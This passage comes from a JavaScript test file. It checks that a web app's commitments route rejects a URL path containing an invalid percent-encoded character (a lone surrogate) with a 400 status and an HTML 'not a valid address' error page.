			);
		}
		const page = await c.app.inject({
			method: "GET",
			url: "/en/commitments/%ED%A0%80",
			headers: { accept: "text/html" },
		});
		assert.equal(page.statusCode, 400);
		assert.match(String(page.headers["content-type"]), /^text\/html/);
		assert.match(page.body, /not a valid address/);
	});
});
